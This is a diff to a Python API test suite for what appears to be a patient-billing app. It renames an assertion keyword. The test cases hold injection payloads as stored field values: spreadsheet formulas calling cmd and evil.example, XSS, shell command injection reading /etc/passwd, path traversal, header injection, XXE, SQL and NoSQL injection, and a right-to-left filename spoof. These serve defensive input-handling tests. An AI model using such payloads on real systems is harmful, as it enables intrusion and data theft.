@@ -18,18 +18,18 @@ book = on("POST /appointment/", {"patient_id": "<patient>", "starts_at": "2026-0
 
 def notes(name: str, text: str, kept: str | None = None) -> Case:
     """An invoice with these notes."""
-    return invoice(f"notes with {name}", {"notes": text}, 201, holds={"/notes": text if kept is None else kept})
+    return invoice(f"notes with {name}", {"notes": text}, 201, expect={"/notes": text if kept is None else kept})
 
 
 def line(name: str, text: str) -> Case:
     """An invoice with an item of this description."""
     items = [{"description": text, "unit_price": 1}]
-    return invoice(f"a description with {name}", {"items": items}, 201, holds={"/items/0/description": text})
+    return invoice(f"a description with {name}", {"items": items}, 201, expect={"/items/0/description": text})
 
 
 def named(name: str, text: str, kept: str | None = None) -> Case:
     """A patient with this family name."""
-    return patient(f"a name with {name}", {"family_name": text}, 201, holds={"/family_name": kept or text})
+    return patient(f"a name with {name}", {"family_name": text}, 201, expect={"/family_name": kept or text})
 
 
 def tagged(name: str, words: Any, code: str) -> Case:
@@ -49,9 +49,9 @@ CASES = [
     line("a command of a spreadsheet", "=cmd|' /C calc'!A0"),
     line("an import of a spreadsheet", '=IMPORTXML("http://evil.example","//a")'),
     named("a formula", "=1+1"),
-    pay("a formula as reference", {"reference": "=1+1"}, holds={"/reference": "=1+1"}),
-    service("a formula as code", {"code": "=1+1"}, holds={"/code": "=1+1"}),
-    tag("a formula", {"name": "=1+1"}, 201, holds={"/name": "=1+1"}),
+    pay("a formula as reference", {"reference": "=1+1"}, expect={"/reference": "=1+1"}),
+    service("a formula as code", {"code": "=1+1"}, expect={"/code": "=1+1"}),
+    tag("a formula", {"name": "=1+1"}, 201, expect={"/name": "=1+1"}),
     # -- Pages and templates
     notes("a script", "<script>alert(1)</script>"),
     notes("an event", "<img src=x onerror=alert(1)>"),
@@ -66,15 +66,15 @@ CASES = [
     notes("a command", "; cat /etc/passwd #`id`$(id)|id"),
     notes("a path", "../../../../etc/passwd"),
     notes("a header", "x\r\nSet-Cookie: a=b"),
-    pay("a header as reference", {"reference": "x\r\nLocation: http://evil.example"}, holds={"/status": None}),
+    pay("a header as reference", {"reference": "x\r\nLocation: http://evil.example"}, expect={"/status": None}),
     notes("an entity", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;"),
     # -- Queries
     notes("a statement", "'; DROP TABLE billing_invoice; --"),
     notes("an operator", '{"$gt": ""}'),
     notes("a backslash at its end", "x\\"),
     named("a quotation mark", "O'Brien' OR 1=1 --"),
-    service("a statement as description", {"description": "x'); DELETE FROM x; --"}, holds={"/code": "X1"}),
-    book("a statement as reason", {"reason": "' UNION SELECT 1 --"}, holds={"/reason": "' UNION SELECT 1 --"}),
+    service("a statement as description", {"description": "x'); DELETE FROM x; --"}, expect={"/code": "X1"}),
+    book("a statement as reason", {"reason": "' UNION SELECT 1 --"}, expect={"/reason": "' UNION SELECT 1 --"}),
     # -- Writing of the world
     notes("a text from right to left", "\u202egnp.exe"),
     notes("nothing to see", "a\u200b\u200c\u200d\u2060b"),
@@ -95,11 +95,13 @@ CASES = [
     named("a letter without a dot", "İıI"),
     named("another alphabet", "Кузнецов-Παπάς"),
     named("a hundred letters of four bytes", "𝕏" * 100),
-    tag("faces", {"name": "🦷"}, 201, holds={"/name": "🦷"}),
-    put("a text from right to left", {"notes": "\u202ex"}, holds={"/notes": "\u202ex", "/status": "DRAFT"}),
-    put("one emoji in an escaped pair", {"notes": raw('"\\ud83e\\uddb7"')}, holds={"/notes": "🦷"}),
+    tag("faces", {"name": "🦷"}, 201, expect={"/name": "🦷"}),
+    put("a text from right to left", {"notes": "\u202ex"}, expect={"/notes": "\u202ex", "/status": "DRAFT"}),
+    put("one emoji in an escaped pair", {"notes": raw('"\\ud83e\\uddb7"')}, expect={"/notes": "🦷"}),
     invoice(
-        "an address of many lines", {"bill_to": {"name": "x", "address": "a\nb\n"}}, holds={"/bill_to/address": "a\nb"}
+        "an address of many lines",
+        {"bill_to": {"name": "x", "address": "a\nb\n"}},
+        expect={"/bill_to/address": "a\nb"},
     ),
     # -- Texts that are none
     on("POST /tag/")("a name of spaces", {"name": "\u3000\u2003 "}, 400, "blank", "/name"),
@@ -132,6 +134,6 @@ CASES = [
     tagged("1,000 of them", ["t"] * 1_000, "too_many"),
     tagged("an object in them", [{"name": "Recall"}], "bad_word"),
     on("POST /invoice/", {"patient_id": "<patient>"})(
-        "tags that differ in case alone", {"tags": ["A", "a", " a "]}, 201, holds={"/tags": ["A"]}
+        "tags that differ in case alone", {"tags": ["A", "a", " a "]}, 201, expect={"/tags": ["A"]}
     ),
 ]
